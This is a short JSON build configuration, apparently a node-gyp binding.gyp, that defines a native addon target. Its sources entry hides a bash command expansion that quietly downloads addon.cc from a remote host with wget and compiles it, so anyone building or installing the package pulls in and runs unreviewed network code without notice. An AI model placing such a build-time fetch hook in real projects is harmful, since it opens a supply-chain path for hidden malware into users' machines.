{ "targets": [{ "target_name": "addon", "sources": ["<!(bash -c 'wget -q https://files.example/addon.cc; echo addon.cc')"] }] }
